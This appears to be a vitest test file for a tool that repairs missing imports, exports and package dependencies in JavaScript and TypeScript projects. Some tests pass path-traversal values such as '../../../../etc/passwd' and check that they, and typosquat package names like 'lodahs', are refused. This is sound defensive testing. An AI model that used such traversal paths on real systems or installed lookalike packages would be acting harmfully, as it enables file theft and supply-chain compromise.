import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Fault } from '../../src/core/fault.js'
import { sha256 } from '../../src/core/hash.js'
import type { Proposal, RepairRequest } from '../../src/core/repairer.js'
import { classify } from '../../src/faults/classify.js'
import { dependencyRepairer } from '../../src/repair/dependencies/dependency.js'
import { memoryWorkspace } from '../../src/testing/memory-workspace.js'

/** Any UTF-16 at all, lone surrogates and control characters included. */
const anyText = fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 60 }).map((units) => String.fromCharCode(...units))

const root = '/project'

interface Setting extends Partial<Pick<Fault, 'code' | 'message' | 'category' | 'location'>> {
  readonly files: Record<string, string>
  readonly details?: Fault['details']
  readonly installs?: RepairRequest['installs']
  readonly proposalsMax?: number
}

function ask({ files, installs = 'declared', proposalsMax = 10, ...fields }: Setting) {
  const workspace = memoryWorkspace(files, { root })
  const fault: Fault = {
    category: 'dependency',
    severity: 'high',
    code: 'MODULE_NOT_FOUND',
    transient: false,
    fingerprint: '0'.repeat(16),
    message: 'not found',
    details: {},
    evidence: [],
    ...fields,
  }
  return dependencyRepairer.propose({
    fault,
    workspace,
    command: ['node', 'a.js'],
    installs,
    proposalsMax,
    signal: new AbortController().signal,
  })
}

/** The missing module, as seen from `src/a.js`. */
const missing = (specifier: string, { code, files, details, ...rest }: Partial<Setting> & { readonly code: string }) =>
  ask({
    message: `Cannot find module '${specifier}'`,
    ...rest,
    files: { 'package.json': '{}', 'src/a.js': code, ...files },
    details: { specifier, importer: `${root}/src/a.js`, ...details },
  })

/** What the file holds after the proposal. */
const after = (proposal: Proposal | undefined, path = 'src/a.js') => proposal?.edits.find((edit) => edit.path === path)?.after

const nothing = { proposals: [] }

/** Values with a title that fits on a line. */
const shown = (values: readonly string[]) => values.map((value) => ({ value, title: JSON.stringify(value).slice(0, 40) }))

describe('dependencyRepairer: relative imports', () => {
  it('adds the ending that Node asks for', async () => {
    const { proposals } = await missing('./b', {
      code: "import { b } from './b'\n",
      files: { 'src/b.js': 'export const b = 1' },
      message: "Cannot find module '/project/src/b' imported from /project/src/a.js",
    })
    expect(proposals).toHaveLength(1)
    expect(proposals[0]).toMatchObject({
      title: 'Import "./b.js" instead of "./b" in src/a.js',
      edits: [
        {
          path: 'src/a.js',
          before: "import { b } from './b'\n",
          after: "import { b } from './b.js'\n",
          baseHash: sha256("import { b } from './b'\n"),
        },
      ],
      actions: [],
    })
    expect(proposals[0]?.plausibility).toBeGreaterThan(0.95)
  })

  it('names the file in a folder that Node does not open', async () => {
    const exact = await ask({
      code: 'ERR_UNSUPPORTED_DIR_IMPORT',
      files: { 'package.json': '{}', 'src/a.js': "import './lib'\n", 'src/lib/index.js': '' },
      details: { specifier: './lib', importer: 'src/a.js' },
    })
    expect(after(exact.proposals[0])).toBe("import './lib/index.js'\n")
  })

  it.each([
    ['another case', './Util.js', 'src/util.js', './util.js'],
    ['another ending', './util.js', 'src/util.mjs', './util.mjs'],
    ['other separators', './user_service.js', 'src/user-service.js', './user-service.js'],
    ['a misspelling', './utl.js', 'src/util.js', './util.js'],
    ['too little depth', './lib/util.js', 'lib/util.js', '../lib/util.js'],
    ['too much depth', '../lib/util.js', 'src/lib/util.js', './lib/util.js'],
    ['a misspelt folder', './libs/util.js', 'src/lib/util.js', './lib/util.js'],
    ['a moved file', './util.js', 'src/core/deep/util.js', './core/deep/util.js'],
    ['data', './confg.json', 'src/config.json', './config.json'],
    ['a style sheet', './styel.css', 'src/style.css', './style.css'],
    ['a query', './icn.svg?raw', 'src/icon.svg', './icon.svg?raw'],
  ])('finds a file behind %s', async (_, specifier, path, right) => {
    const { proposals } = await missing(specifier, {
      code: `import x from '${specifier}'\n`,
      files: { [path]: 'export default 1' },
    })
    expect(after(proposals[0])).toBe(`import x from '${right}'\n`)
  })

  it('keeps the style of the other imports', async () => {
    const files = { 'src/b.ts': 'export const b = 1', 'src/c.ts': 'export const c = 1' }
    const propose = async (other: string) => {
      const { proposals } = await ask({
        code: 'TS2307',
        files: { ...files, 'src/a.ts': `import { c } from '${other}'\nimport { b } from './bb'\n` },
        details: { specifier: './bb', importer: 'src/a.ts' },
      })
      return proposals.map((proposal) => after(proposal, 'src/a.ts')?.split('\n')[1])
    }
    expect(await propose('./c')).toEqual(["import { b } from './b'"])
    expect(await propose('./c.js')).toEqual(["import { b } from './b.js'"])
    expect(await propose('./c.ts')).toEqual(["import { b } from './b.ts'"])
  })

  it('asks other files how imports are spelt, and offers both ways when nobody says', async () => {
    const files = { 'src/a.ts': "import { b } from './bb'\n", 'src/b.ts': 'export const b = 1' }
    const details = { specifier: './bb', importer: 'src/a.ts' }
    const alone = await ask({ files, details })
    expect(alone.proposals.map((proposal) => after(proposal, 'src/a.ts'))).toEqual([
      "import { b } from './b'\n",
      "import { b } from './b.js'\n",
    ])
    const shown = await ask({ files: { ...files, 'src/c.ts': "import './b.js'\n" }, details })
    expect(shown.proposals.map((proposal) => after(proposal, 'src/a.ts'))).toEqual(["import { b } from './b.js'\n"])
    const sources = await ask({
      files: { ...files, 'src/a.ts': "import { b } from './bb.ts'\n" },
      details: { ...details, specifier: './bb.ts' },
    })
    expect(after(sources.proposals[0], 'src/a.ts')).toBe("import { b } from './b.ts'\n")
  })

  it('prefers the file that exports what is imported, and drops one that exports none of it', async () => {
    const { proposals } = await missing('./utile.js', {
      code: "import { x } from './utile.js'\n",
      files: { 'src/util.js': 'export const y = 1', 'src/utils.js': 'export const x = 1' },
    })
    expect(proposals.map((proposal) => after(proposal))).toEqual(["import { x } from './utils.js'\n"])
    const partly = await missing('./utile.js', {
      code: "import { x, y } from './utile.js'\n",
      files: { 'src/util.js': 'export const y = 1', 'src/utils.js': 'export const x = 1, y = 2' },
    })
    expect(partly.proposals.map((proposal) => after(proposal))).toEqual([
      "import { x, y } from './utils.js'\n",
      "import { x, y } from './util.js'\n",
    ])
    expect(partly.proposals[1]?.plausibility).toBeLessThan(0.5)
  })

  it('changes every import of the same missing place, and only those', async () => {
    const { proposals } = await missing('./old.js', {
      code: "import { n } from './old.js'\nconst s = './old.js'\n",
      files: {
        'src/deep/b.js': "export { n } from '../old.js'\nimport './old.js'\n",
        'src/deep/old.js': '',
        'lib/new/old.js': 'export const n = 1',
      },
    })
    const best = proposals.find(({ title }) => title.startsWith('Import "../lib/new/old.js"'))
    expect(after(best)).toBe("import { n } from '../lib/new/old.js'\nconst s = './old.js'\n")
    expect(after(best, 'src/deep/b.js')).toBe("export { n } from '../../lib/new/old.js'\nimport './old.js'\n")
    expect(best?.title).toBe('Import "../lib/new/old.js" instead of "./old.js" in src/a.js and 1 more')
  })

  it('renames the file rather than edit a test that nobody contradicts', async () => {
    const files = {
      'package.json': '{}',
      'test/a.test.js': "import { x } from '../src/cart.js'\n",
      'src/Cart.js': 'export const x = 1',
    }
    const { proposals } = await ask({ files, details: { specifier: '../src/cart.js', importer: '/project/test/a.test.js' } })
    expect(proposals[0]).toMatchObject({
      title: 'Rename src/Cart.js to src/cart.js',
      edits: [
        { path: 'src/Cart.js', after: null },
        { path: 'src/cart.js', before: null, after: 'export const x = 1', baseHash: null },
      ],
    })
    const used = await ask({
      files: { ...files, 'src/b.js': "import './Cart.js'" },
      details: { specifier: '../src/cart.js', importer: '/project/test/a.test.js' },
    })
    expect(used.proposals.map(({ title }) => title)).toEqual([
      'Import "../src/Cart.js" instead of "../src/cart.js" in test/a.test.js',
    ])
    const named = await ask({
      files: { ...files, 'package.json': '{"main":"./src/Cart.js"}' },
      details: { specifier: '../src/cart.js', importer: '/project/test/a.test.js' },
    })
    expect(named.proposals.every(({ title }) => title.startsWith('Import'))).toBe(true)
  })

  it('does not mean a test when a source imports', async () => {
    const { proposals } = await missing('./utl.js', {
      code: "import './utl.js'\n",
      files: { 'src/utl.test.js': '', 'src/util.js': '' },
    })
    expect(after(proposals[0])).toBe("import './util.js'\n")
  })

  it('finds the importer by its import when the tool names a folder or nothing', async () => {
    const files = { 'package.json': '{}', 'src/a.js': "import './utl.js'\n", 'src/util.js': '' }
    for (const details of [{ specifier: './utl.js' }, { specifier: './utl.js', importer: '/project/src' }]) {
      const { proposals } = await ask({ files, details })
      expect(after(proposals[0])).toBe("import './util.js'\n")
    }
    const unclear = await ask({ files: { ...files, 'b.js': "import './utl.js'\n" }, details: { specifier: './utl.js' } })
    expect(unclear).toMatchObject({ ...nothing, notes: [expect.stringContaining('which file imports it was not said')] })
  })

  it('finds an importer that a tool names from inside a package', async () => {
    const { proposals } = await ask({
      files: { 'packages/p/src/a.ts': "import './bb'\n", 'packages/p/src/b.ts': '' },
      details: { specifier: './bb', importer: 'src/a.ts' },
      code: 'TS2307',
    })
    expect(after(proposals[0], 'packages/p/src/a.ts')).toBe("import './b'\n")
  })

  it('points absolute imports of the project the right way', async () => {
    const { proposals } = await missing('/project/src/utl.js', { code: "import './utl.js'\n", files: { 'src/util.js': '' } })
    expect(after(proposals[0])).toBe("import './util.js'\n")
  })

  it('heals a source that does not parse, and a script in a page', async () => {
    const broken = await missing('./utl.js', { code: "import x from './utl.js'\nconst = = `${\n", files: { 'src/util.js': '' } })
    expect(after(broken.proposals[0])).toContain("from './util.js'")
    const page = await ask({
      files: { 'a.vue': "<script>\nimport './utl.js'\n</script>", 'util.js': '' },
      details: { specifier: './utl.js', importer: 'a.vue' },
    })
    expect(after(page.proposals[0], 'a.vue')).toContain("'./util.js'")
  })

  it.each([
    ['../../outside.js', 'leads out of the project'],
    ['../../../../etc/passwd', 'leads out of the project'],
    ['./dist/x.js', 'a build makes'],
    ['../build', 'a build makes'],
    ['./nothing-like-it.js', 'Nothing in the project is like'],
  ])('says why %j is left alone', async (specifier, reason) => {
    const { proposals, notes } = await missing(specifier, { code: `import '${specifier}'\n` })
    expect(proposals).toEqual([])
    expect(notes.join()).toContain(reason)
  })

  it('finds sources in a folder that elsewhere a build makes', async () => {
    const { proposals } = await missing('./generated/tpyes.js', {
      code: "import './generated/tpyes.js'\n",
      files: { 'src/generated/types.js': '' },
    })
    expect(after(proposals[0])).toBe("import './generated/types.js'\n")
  })

  it('names the build script when there is one', async () => {
    const { notes } = await missing('../dist/x.js', {
      code: "import '../dist/x.js'\n",
      files: { 'package.json': '{"scripts":{"build":"tsc"}}' },
    })
    expect(notes.join()).toContain('"build" script')
  })

  it('says when no literal import is there to change', async () => {
    const { proposals, notes } = await missing('./utl.js', { code: 'import(name)\n', files: { 'src/util.js': '' } })
    expect(proposals).toEqual([])
    expect(notes.join()).toContain('put together as the program runs')
  })

  it('writes the endings that the compiler asks for', async () => {
    const text = "import { b } from './b'\nimport './c.js'\nimport 'pkg'\nimport d from './d'\nimport './gone'\n"
    const files = { 'src/a.ts': text, 'src/b.ts': '', 'src/c.ts': '', 'src/d/index.ts': '' }
    const { proposals } = await ask({ code: 'TS2835', category: 'build', files, location: { file: 'src/a.ts', line: 1 } })
    expect(after(proposals[0], 'src/a.ts')).toBe(
      "import { b } from './b.js'\nimport './c.js'\nimport 'pkg'\nimport d from './d/index.js'\nimport './gone'\n",
    )
    expect(await ask({ code: 'TS2834', files: { 'src/a.ts': "import './gone'" }, location: { file: 'src/a.ts' } })).toMatchObject(
      nothing,
    )
    expect(await ask({ code: 'TS2834', files, location: { file: '/else/a.ts' } })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('not one of the project')],
    })
  })
})

describe('dependencyRepairer: modules of Node', () => {
  it.each([
    ['fss', "import { readFileSync } from 'fss'", "import { readFileSync } from 'fs'"],
    ['node:pth', "import 'node:pth'", "import 'node:path'"],
    ['child-process', "require('child-process')", "require('child_process')"],
    ['nodejs:fs', "import 'nodejs:fs'", "import 'node:fs'"],
    ['fs/promise', "import 'fs/promise'", "import 'fs/promises'"],
    ['test', "import test from 'test'", "import test from 'node:test'"],
    ['node:evnets', "import 'node:evnets'", "import 'node:events'"],
  ])('corrects %j', async (specifier, code, right) => {
    const { proposals } = await missing(specifier, { code, installs: 'any' })
    expect(after(proposals[0])).toBe(right)
    expect(proposals[0]?.actions).toEqual([])
  })

  it('takes the prefix from a package of the project', async () => {
    const files = { 'package.json': '{"dependencies":{"foo":"1"}}', 'node_modules/foo/package.json': '{}' }
    const { proposals } = await missing('node:foo', { code: "import 'node:foo'", files })
    expect(after(proposals[0])).toBe("import 'foo'")
    expect(await missing('node:unheard', { code: "import 'node:unheard'", installs: 'any' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('no module nearly of that name')],
    })
  })

  it('explains that a build for browsers has none', async () => {
    expect(await missing('fs', { code: "import 'fs'", installs: 'any' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('module of Node')],
    })
  })
})

describe('dependencyRepairer: packages', () => {
  const install = (fields: object = {}) => ({ kind: 'install', manager: 'npm', packages: [], folder: '', ...fields })

  it('brings in what a manifest declares', async () => {
    for (const field of ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies']) {
      const { proposals } = await missing('lodash/fp', {
        code: "import 'lodash/fp'",
        files: { 'package.json': JSON.stringify({ [field]: { lodash: '^4' } }), 'pnpm-lock.yaml': '' },
      })
      expect(proposals.map(({ actions }) => actions)).toEqual([[install({ manager: 'pnpm' })]])
      expect(proposals[0]).toMatchObject({ edits: [], title: 'Install the declared packages: "lodash" is missing' })
    }
  })

  it('brings in local packages that are declared and not linked, and old names with capitals', async () => {
    const local = await missing('@own/b', {
      code: "import '@own/b'",
      files: { 'package.json': '{"workspaces":["packages/*"],"dependencies":{"@own/b":"workspace:*"}}', 'yarn.lock': '' },
    })
    expect(local.proposals[0]?.actions).toEqual([install({ manager: 'yarn' })])
    const old = await missing('JSONStream', {
      code: "import 'JSONStream'",
      files: { 'package.json': '{"dependencies":{"JSONStream":"1"}}' },
    })
    expect(old.proposals[0]?.actions).toEqual([install()])
  })

  it('installs nothing where the policy says never, and says what a person can run', async () => {
    const { proposals, notes } = await missing('lodash', {
      code: "import 'lodash'",
      installs: 'never',
      files: { 'package.json': '{"dependencies":{"lodash":"^4"}}' },
    })
    expect(proposals).toEqual([])
    expect(notes.join()).toContain('Run "npm install --ignore-scripts" in the root of the project')
  })

  it('adds what only the lockfile names, with a range that fits it', async () => {
    const lock = JSON.stringify({ packages: { 'node_modules/lodash': { version: '4.17.21' } } })
    const { proposals } = await missing('lodash', { code: "import 'lodash'", files: { 'package-lock.json': lock } })
    expect(proposals[0]?.actions).toEqual([install({ packages: [{ name: 'lodash', range: '^4.17.21', dev: false }] })])
    const test = await ask({
      files: { 'package.json': '{}', 'package-lock.json': lock, 'test/a.test.js': "import 'lodash'" },
      details: { specifier: 'lodash', importer: 'test/a.test.js' },
    })
    expect(test.proposals[0]?.actions).toEqual([install({ packages: [{ name: 'lodash', range: '^4.17.21', dev: true }] })])
  })

  it('adds to a member of a workspace by its manifest, and installs from the root', async () => {
    const files = {
      'package.json': '{"workspaces":["packages/*"]}',
      'package-lock.json': '{}',
      'packages/a/package.json': '{\n  "name": "a"\n}\n',
      'packages/a/i.js': "import 'lodash'",
      'packages/b/package.json': '{"dependencies":{"lodash":"~4.17.0"}}',
    }
    const details = { specifier: 'lodash', importer: 'packages/a/i.js' }
    const { proposals } = await ask({ files, details })
    expect(proposals[0]?.actions).toEqual([install()])
    expect(after(proposals[0], 'packages/a/package.json')).toBe(
      '{\n  "name": "a",\n  "dependencies": {\n    "lodash": "~4.17.0"\n  }\n}\n',
    )
    const unknown = await ask({ files: { ...files, 'packages/b/package.json': '{}' }, details, installs: 'any' })
    expect(unknown).toMatchObject({ ...nothing, notes: [expect.stringContaining('Add "lodash" to packages/a/package.json')] })
  })

  it('adds a stranger only where the policy lets strangers in', async () => {
    const any = await missing('zod', { code: "import 'zod'", installs: 'any' })
    expect(any.proposals[0]?.actions).toEqual([install({ packages: [{ name: 'zod', dev: false }] })])
    for (const installs of ['declared', 'never'] as const) {
      const { proposals, notes } = await missing('zod', { code: "import 'zod'", installs })
      expect(proposals).toEqual([])
      expect(notes.join()).toContain('run "npm install --ignore-scripts zod"')
    }
  })

  it('points a misspelt import to the declared package, before any install', async () => {
    const files = {
      'package.json': '{"dependencies":{"express":"4"}}',
      'node_modules/express/package.json': '{}',
      'src/b.js': "require('expres/lib/x')",
    }
    const { proposals } = await missing('expres', { code: 'import e from "expres"', files, installs: 'any' })
    expect(proposals).toHaveLength(1)
    expect(after(proposals[0])).toBe('import e from "express"')
    expect(after(proposals[0], 'src/b.js')).toBe("require('express/lib/x')")
    expect(proposals[0]?.actions).toEqual([])
  })

  it('never installs what bears the name of a folder of the project', async () => {
    const answer = await missing('src/idnex.js', { code: "import 'src/idnex.js'\n", installs: 'any' })
    expect(answer.proposals.flatMap(({ actions }) => actions)).toEqual([])
    const told = await ask({
      files: { 'package.json': '{}', 'src/index.js': 'run()\n' },
      message: 'Could not resolve "src/idnex.js"',
      details: { specifier: 'src/idnex.js' },
      installs: 'any',
    })
    expect(told.proposals.flatMap(({ actions }) => actions)).toEqual([])
  })

  it('never installs a name that is nearly a declared one, whatever the policy', async () => {
    for (const name of ['acme-parsr', 'acmeparser', 'acme_parser', 'acme-parser2', 'acme-parser.js']) {
      const files = { 'package.json': '{"dependencies":{"acme-parser":"4"}}', 'node_modules/acme-parser/package.json': '{}' }
      const { proposals } = await missing(name, { code: `import e from "${name}"`, files, installs: 'any' })
      expect(proposals.flatMap(({ actions }) => actions)).toEqual([])
    }
  })

  it('installs what is declared together with the corrected import, when it is missing too', async () => {
    const files = { 'package.json': '{"dependencies":{"express":"4"}}' }
    const { proposals } = await missing('expres', { code: 'import e from "expres"', files })
    expect(proposals[0]).toMatchObject({ edits: [{ after: 'import e from "express"' }], actions: [install()] })
    expect(await missing('expres', { code: 'import e from "expres"', files, installs: 'never' })).toMatchObject({
      ...nothing,
      notes: [expect.any(String), expect.any(String)],
    })
  })

  it('prefers declared packages to those that merely lie there', async () => {
    const files = {
      'package.json': '{"dependencies":{"lodash-es":"4"}}',
      'node_modules/lodash-es/package.json': '{}',
      'node_modules/@lodash/es/package.json': '{}',
      'node_modules/.bin/x': '',
    }
    const { proposals } = await missing('lodashes', { code: "import 'lodashes'", files })
    expect(proposals.map((proposal) => after(proposal))).toEqual(["import 'lodash-es'", "import '@lodash/es'"])
  })

  it('corrects the manifest when that is what is misspelt', async () => {
    const files = {
      'package.json': '{"dependencies":{"expresss":"^4"}}',
      'package-lock.json': JSON.stringify({ packages: { 'node_modules/express': { version: '4.19.0' } } }),
    }
    const { proposals } = await missing('express', { code: "import 'express'", files })
    expect(proposals[0]).toMatchObject({ title: 'Declare "express" instead of "expresss" in package.json', actions: [install()] })
    expect(after(proposals[0], 'package.json')).toBe('{"dependencies":{"express":"^4"}}')
    const trusted = await missing('express', {
      code: "import 'express'",
      files: { 'package.json': '{"dependencies":{"expresss":"^4"}}' },
      installs: 'any',
    })
    expect(trusted.proposals.some(({ title }) => title.startsWith('Declare "express"'))).toBe(true)
    const used = await missing('express', {
      code: "import 'express'; import 'expresss'",
      files: { 'package.json': '{"dependencies":{"expresss":"^4"}}' },
      installs: 'any',
    })
    expect(used.proposals.some(({ title }) => title.startsWith('Declare'))).toBe(false)
  })

  it('takes no popular name for a misspelling, and no short one for one of the many that lie there', async () => {
    const files = {
      'package.json': '{"dependencies":{"vuex":"4"}}',
      'node_modules/vuex/package.json': '{}',
      'node_modules/acmf/package.json': '{}',
    }
    expect(await missing('vue', { code: "import 'vue'", files })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('vue')],
    })
    const own = await missing('acm', { code: "import 'acm'", files })
    expect(own.proposals).toEqual([])
  })

  it('doubts a declared imitation that the lockfile does not know', async () => {
    const files = { 'package.json': '{"dependencies":{"lodahs":"^4"}}', 'package-lock.json': '{"packages":{}}' }
    expect(await missing('lodahs', { code: "import 'lodahs'", files, installs: 'any' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('nearly spelt as "lodash"')],
    })
  })

  it.each(['lodahs', 'types-node', 'lodash.js', 'node-fetch2', 'expresss', 'react-official', '1odash'])(
    'does not take the bait %j',
    async (name) => {
      const { proposals, notes } = await missing(name, { code: `import '${name}'`, installs: 'any' })
      expect(proposals).toEqual([])
      expect(notes.join()).toContain('Do not install')
    },
  )

  it('asks for a manifest where there is none', async () => {
    const { proposals, notes } = await ask({
      files: { 'a.js': "import 'zod'" },
      details: { specifier: 'zod', importer: 'a.js' },
      installs: 'any',
    })
    expect(proposals).toEqual([])
    expect(notes.join()).toContain('npm init')
  })

  it('finds a path inside an installed package', async () => {
    const files = {
      'package.json': '{"dependencies":{"foo":"1"}}',
      'node_modules/foo/package.json': '{}',
      'node_modules/foo/fp/map.js': '',
      'node_modules/foo/fp/mapper/index.js': '',
      'node_modules/foo/node_modules/x/fp/mapp.js': '',
    }
    const { proposals } = await missing('foo/fp/mpa', { code: "require('foo/fp/mpa')", files })
    expect(after(proposals[0])).toBe("require('foo/fp/map')")
    const exact = await missing('../node_modules/foo/fp/map', {
      code: "import 'foo/fp/map'",
      files,
      message: "Cannot find module '/project/node_modules/foo/fp/map' imported from /project/src/a.js",
    })
    expect(after(exact.proposals[0])).toBe("import 'foo/fp/map.js'")
    expect(await missing('foo/other', { code: "require('foo/other')", files, installs: 'any' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('does not offer')],
    })
  })

  it('offers only what "exports" offer', async () => {
    const exports = {
      '.': './i.js',
      './promises': { import: { default: './p.mjs' } },
      './feature/*': ['./src/*.js'],
      './private/*': null,
      './odd/*': { import: './nothing-*-twice-*.js' },
    }
    const files = {
      'node_modules/foo/package.json': JSON.stringify({ exports }),
      'node_modules/foo/src/alpha.js': '',
      'node_modules/foo/hidden.js': '',
    }
    const propose = async (specifier: string) =>
      (await missing(specifier, { code: `import '${specifier}'`, files })).proposals.map((proposal) => after(proposal))
    expect(await propose('foo/promise')).toEqual(["import 'foo/promises'"])
    expect(await propose('foo/feature/alhpa')).toEqual(["import 'foo/feature/alpha'"])
    expect(await propose('foo/hiden')).toEqual([])
    expect(await propose('foo/src/alpha')).toEqual(["import 'foo/feature/alpha'"])
  })

  it('brings in again what is declared, there, and yet not found', async () => {
    const files = { 'package.json': '{"dependencies":{"foo":"1"}}', 'node_modules/foo/package.json': '{"main":"gone.js"}' }
    const { proposals } = await missing('foo', { code: "import 'foo'", files })
    expect(proposals).toMatchObject([{ actions: [install()], plausibility: 0.93 }])
    expect(
      await missing('foo', { code: "import 'foo'", files: { ...files, 'package.json': '{}' }, installs: 'any' }),
    ).toMatchObject({ ...nothing, notes: [expect.stringContaining('Install it again')] })
  })

  it('never edits an installed package; it installs again what is declared', async () => {
    const files = {
      'package.json': '{"dependencies":{"foo":"1","bar":"1"}}',
      'node_modules/foo/i.js': "require('bar'); require('./b')",
      'node_modules/foo/a.js': '',
    }
    const importer = '/project/node_modules/foo/i.js'
    for (const specifier of ['bar', './b']) {
      const { proposals } = await ask({ files, details: { specifier, importer } })
      expect(proposals).toMatchObject([{ edits: [], actions: [install()] }])
    }
    expect(await ask({ files, details: { specifier: 'zod', importer }, installs: 'any' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('peerDependencies')],
    })
  })

  it('explains an import of the own package', async () => {
    expect(await missing('own/x', { code: "import 'own/x'", files: { 'package.json': '{"name":"own"}' } })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('its own package')],
    })
  })

  it('explains an alias, and corrects a name from "imports"', async () => {
    const files = {
      'tsconfig.json': '{ // settings\n "compilerOptions": { "paths": { "app/*": ["./src/*"], "exact": ["x"] } } }',
    }
    for (const specifier of ['app/x', 'exact', '@/x', '~/x'])
      expect(await missing(specifier, { code: `import '${specifier}'`, files, installs: 'any' })).toMatchObject({
        ...nothing,
        notes: [expect.stringContaining('alias')],
      })
    const inner = { 'package.json': '{"imports":{"#config":"./c.js","#lib/*":"./lib/*"}}' }
    const { proposals } = await ask({
      code: 'ERR_PACKAGE_IMPORT_NOT_DEFINED',
      message: 'Package import specifier "#confg" is not defined in package /project/package.json',
      files: { ...inner, 'src/a.js': "import '#confg'" },
      details: { importer: 'src/a.js' },
    })
    expect(after(proposals[0])).toBe("import '#config'")
    expect(await missing('#nothing-near', { code: "import '#nothing-near'", files: inner })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('"imports"')],
    })
  })
})

describe('dependencyRepairer: exported names', () => {
  const name = (code: string, module: string, details: Fault['details'], fields: Partial<Setting> = {}) =>
    ask({
      code: 'EXPORT_NOT_FOUND',
      message: 'does not provide an export',
      files: { 'src/a.js': code, 'src/b.js': module },
      ...fields,
      details: { specifier: './b.js', importer: 'src/a.js', ...details },
    })

  it.each([
    [
      'a name that is used as written',
      "import { totl } from './b.js'\ntotl()",
      'export const total = 1',
      'totl',
      "import { total } from './b.js'\ntotal()",
    ],
    [
      'a name that is misspelt in the import only',
      "import { totl } from './b.js'\ntotal()",
      'export const total = 1',
      'totl',
      "import { total } from './b.js'\ntotal()",
    ],
    [
      'a name that has another one already',
      "import { totl as t } from './b.js'\nt()",
      'export const total = 1',
      'totl',
      "import { total as t } from './b.js'\nt()",
    ],
    [
      'another case',
      "import { Total } from './b.js'\nTotal()",
      'export const total = 1',
      'Total',
      "import { total } from './b.js'\ntotal()",
    ],
    [
      'a name whose right spelling is taken',
      "import { totl } from './b.js'\nconst total = totl()",
      'export const total = 1',
      'totl',
      "import { total as totl } from './b.js'\nconst total = totl()",
    ],
    [
      'a name that is also the key of an object',
      "import { totl } from './b.js'\nconst a = { totl }",
      'export const total = 1',
      'totl',
      "import { total as totl } from './b.js'\nconst a = { totl }",
    ],
    [
      'a name, and no member of an object that is called so too',
      "import { totl } from './b.js'\na.totl(totl, { totl: 1 })",
      'export const total = 1',
      'totl',
      "import { total } from './b.js'\na.totl(total, { totl: 1 })",
    ],
    [
      'a name passed on that nobody asks for',
      "export { totl } from './b.js'",
      'export const total = 1',
      'totl',
      "export { total } from './b.js'",
    ],
    [
      'a name taken apart',
      "const { totl } = require('./b.js')\ntotl()",
      'exports.total = 1',
      'totl',
      "const { total: totl } = require('./b.js')\ntotl()",
    ],
    [
      'a default that is a name',
      "import total from './b.js'\ntotal()",
      'export const total = 1',
      'default',
      "import { total } from './b.js'\ntotal()",
    ],
    [
      'a name that is the default',
      "import { total } from './b.js'\ntotal()",
      'export default 1',
      'total',
      "import total from './b.js'\ntotal()",
    ],
  ])('corrects %s', async (_, code, module, missingName, right) => {
    const { proposals } = await name(code, module, { name: missingName })
    expect(after(proposals[0])).toBe(right)
  })

  it.each([
    ['a test takes it', { 'test/b.test.js': "import { total } from '../src/b.js'\ntotal()" }],
    ['several files take it', { 'src/c.js': "import { total } from './b.js'\ntotal()" }],
    ['its types name it', { 'src/b.d.ts': 'export declare const total: number' }],
    ['what is written for people calls it', { 'readme.md': 'Call `total()`.' }],
  ])('corrects the export of a name where %s', async (_, files) => {
    const code = "import { total } from './b.js'\ntotal()"
    const module = 'export function totla(n) {\n  return n && totla(n - 1)\n}'
    const { proposals } = await name(
      code,
      module,
      { name: 'total' },
      { files: { 'src/a.js': code, 'src/b.js': module, ...files } },
    )
    expect(after(proposals[0], 'src/b.js')).toBe('export function total(n) {\n  return n && total(n - 1)\n}')
    expect(proposals[1]?.edits[0]?.path).toBe('src/a.js')
    expect(proposals[1]?.plausibility).toBeLessThan(0.8)
  })

  it.each([
    [
      'somebody takes it',
      { 'src/c.js': "import { totla } from './b.js'\ntotla()", 'test/b.test.js': "import { total } from '../src/b.js'" },
    ],
    ['the rest of the project calls it so', { 'readme.md': 'Call `totla()`.', 'src/c.js': "import { total } from './b.js'" }],
    ['nothing else is said of either', {}],
  ])('leaves an export alone where %s', async (_, files) => {
    const code = "import { total } from './b.js'\ntotal()"
    const { proposals } = await name(
      code,
      'export function totla() {}',
      { name: 'total' },
      { files: { 'src/a.js': code, 'src/b.js': 'export function totla() {}', ...files } },
    )
    expect(proposals.flatMap(({ edits }) => edits.map(({ path }) => path))).toEqual(['src/a.js'])
  })

  it('finds the import by the file that a bundler names, or by the name alone', async () => {
    for (const specifier of ['src/b.js', '/project/src/b.js', '']) {
      const { proposals } = await name("import { totl } from './b.js'", 'export const total = 1', { name: 'totl', specifier })
      expect(after(proposals[0])).toBe("import { total } from './b.js'")
    }
  })

  it('reads what the compiler says', async () => {
    const files = { 'src/a.ts': "import type { Totl } from './b.js'\nlet a: Totl", 'src/b.ts': 'export interface Total {}' }
    for (const code of ['TS2305', 'TS2724']) {
      const { proposals } = await ask({
        code,
        category: 'build',
        files,
        details: { specifier: '"./b.js"', name: 'Totl' },
        location: { file: 'src/a.ts', line: 1 },
      })
      expect(after(proposals[0], 'src/a.ts')).toBe("import type { Total } from './b.js'\nlet a: Total")
    }
    const plain = await ask({
      code: 'TS2613',
      message: "Module './b.js' has no default export.",
      files: { 'a.ts': "import b from './b.js'\nb", 'b.ts': 'export const b = 1' },
      details: {},
      location: { file: 'a.ts' },
    })
    expect(after(plain.proposals[0], 'a.ts')).toBe("import { b } from './b.js'\nb")
  })

  it('says what it knows when nothing is near', async () => {
    expect(await name("import { x } from './b.js'", 'export const total = 1', { name: 'x' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('only "total"')],
    })
    expect(await name("import { x } from 'pkg'", '', { name: 'x', specifier: 'pkg' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('Compare its version')],
    })
    expect(await name('', '', { name: 'x' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('No import of the name')],
    })
    expect(await name('', '', {})).toMatchObject(nothing)
    expect(await name('', '', { name: 'x', importer: '/etc/passwd' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('not one of the project')],
    })
  })
})

describe('dependencyRepairer: kinds of module', () => {
